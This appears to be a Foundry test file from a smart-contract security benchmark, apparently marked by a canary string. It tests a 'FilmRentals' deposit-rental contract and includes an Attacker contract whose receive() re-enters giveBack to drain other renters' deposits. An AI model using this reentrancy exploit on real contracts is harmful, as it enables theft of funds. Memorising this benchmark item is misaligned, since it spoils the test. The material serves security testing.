// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./FilmRentals.sol";

// assay-canary-2f3990a0-2fe7-4b5b-a72d-3e83e5c147b5

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

// A customer that takes no ether.
contract Mute {
    address private host = msg.sender;

    function rent(FilmRentals shop) external payable {
        require(msg.sender == host, "host");
        shop.rent{value: msg.value}(0);
    }

    function back(FilmRentals shop) external {
        require(msg.sender == host, "host");
        shop.giveBack(0);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1700000000;

    FilmRentals private shop;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        shop = new FilmRentals();
        shop.add(2 ether, 0.1 ether, 5);
        vm.deal(ANA, 10 ether);
        vm.deal(BEN, 10 ether);
        vm.prank(ANA);
        shop.rent{value: 2 ether}(0);
        vm.prank(BEN);
        shop.rent{value: 2 ether}(0);
        Mute mute = new Mute();
        vm.deal(address(this), 2 ether);
        mute.rent{value: 2 ether}(shop);
        mallory = new Attacker(shop);
        vm.deal(address(mallory), 2 ether);
    }

    receive() external payable {}

    function test_Regular() public {
        shop.add(1 ether, 1 ether, 1);
        require(shop.filmLength() == 2, "two films");
        vm.warp(START + 3 days);
        require(shop.cost(0, ANA) == 0.4 ether, "four days were begun");
        vm.prank(ANA);
        shop.giveBack(0);
        require(ANA.balance == 9.6 ether && shop.takings() == 0.4 ether, "given back");
        vm.prank(ANA);
        shop.rent{value: 1 ether}(1);
        (, , uint256 copies) = shop.filmInfo(1);
        require(copies == 0, "the only copy");
        vm.warp(START + 19 days);
        shop.keep(0, BEN);
        require(shop.takings() == 2.4 ether, "kept");
        shop.collect(payable(address(this)));
        require(address(this).balance == 2.4 ether && shop.takings() == 0, "collected");
        shop.transferOwnership(ANA);
        vm.prank(ANA);
        shop.renounceOwnership();
    }

    function test_RefusesOwners() public {
        vm.deal(address(this), 4 ether);
        vm.expectRevert("add: no price");
        shop.add(1, 0, 1);
        vm.expectRevert("add: small deposit");
        shop.add(1, 2, 1);
        vm.expectRevert("collect: no account");
        shop.collect(address(0));
        vm.startPrank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        shop.add(1, 1, 1);
        vm.expectRevert("Ownable: caller is not the owner");
        shop.collect(address(0xA9A));
        vm.stopPrank();
        Mute mute = new Mute();
        vm.expectRevert("collect: refused");
        shop.collect(payable(address(mute)));
        mute.rent{value: 2 ether}(shop);
        vm.expectRevert("giveBack: refused");
        mute.back(shop);
    }

    function test_RefusesCustomers() public {
        vm.deal(address(this), 4 ether);
        vm.startPrank(ANA);
        vm.expectRevert("rent: one copy each");
        shop.rent{value: 2 ether}(0);
        vm.stopPrank();
        vm.expectRevert("giveBack: no rental");
        shop.giveBack(0);
        vm.expectRevert("keep: no rental");
        shop.keep(0, address(this));
        vm.warp(START + 19 days - 1);
        vm.expectRevert("keep: not yet");
        shop.keep(0, ANA);
        vm.expectRevert("rent: not the deposit");
        shop.rent{value: 1 ether}(0);
        vm.deal(address(0xCA7), 2 ether);
        vm.prank(address(0xCA7));
        shop.rent{value: 2 ether}(0);
        vm.deal(address(0xCA8), 2 ether);
        vm.prank(address(0xCA8));
        shop.rent{value: 2 ether}(0);
        vm.expectRevert("rent: no copy");
        shop.rent{value: 2 ether}(0);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 7 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(shop);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    FilmRentals private shop;
    uint256 private times;

    constructor(FilmRentals s) public {
        shop = s;
    }

    function run() external {
        shop.rent{value: 2 ether}(0);
        times = 3;
        shop.giveBack(0);
    }

    receive() external payable {
        if (times > 0) {
            times--;
            shop.giveBack(0);
        }
    }
}
